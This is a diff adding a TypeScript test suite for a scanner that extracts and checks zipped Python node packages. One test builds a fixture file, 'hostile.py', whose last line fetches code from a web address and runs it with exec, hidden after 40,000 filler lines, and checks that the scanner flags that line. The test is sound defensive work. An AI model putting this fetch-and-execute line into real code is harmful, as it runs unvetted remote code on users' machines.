@@ -1,0 +1,58 @@
+import assert from 'node:assert/strict';
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { suite, test } from 'node:test';
+import { DEFAULT_LIMITS } from '../../src/archive/archive-limits.ts';
+import { Workshop } from '../../src/workshop/workshop.ts';
+import { zip } from '../support/build.ts';
+import { temporaryFolder } from '../support/temporary-folder.ts';
+
+suite('workshop', () => {
+  test('more packages than threads are all read, each with its own answer', async (t) => {
+    const workshop = new Workshop();
+    t.after(() => workshop.close());
+    const folder = await temporaryFolder(t);
+    const names = await Promise.all(
+      Array.from({ length: workshop.threads * 4 }, async (_, index) => {
+        const path = join(folder, `${index}.zip`);
+        const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
+        await writeFile(path, await zip({ '__init__.py': source }));
+        const { appNodes } = await workshop.extract(path);
+        return appNodes.map(({ app_node_name }) => app_node_name);
+      }),
+    );
+    assert.deepEqual(
+      names,
+      names.map((_, index) => [`Node ${index}`]),
+    );
+  });
+
+  test('a package of large files is read to its end', async (t) => {
+    const workshop = new Workshop();
+    t.after(() => workshop.close());
+    const path = join(await temporaryFolder(t), 'package.zip');
+    const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
+    const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
+    await writeFile(
+      path,
+      await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) }),
+    );
+    const { outcome, findings } = await workshop.check(path);
+    assert.equal(outcome, 'found');
+    assert.deepEqual(
+      findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
+      [['hostile.py', 40_002]],
+    );
+  });
+
+  test('a task that fails fails alone', async (t) => {
+    const workshop = new Workshop();
+    t.after(() => workshop.close());
+    const path = join(await temporaryFolder(t), 'package.zip');
+    await assert.rejects(workshop.check(path), /ENOENT/);
+    await writeFile(path, await zip({ '__init__.py': '' }));
+    assert.equal((await workshop.check(path)).outcome, 'passed');
+    const published = { nodeId: 'node', version: '1.0.0' };
+    assert.equal(await workshop.inspect({ path, limits: DEFAULT_LIMITS, published }), undefined);
+  });
+});
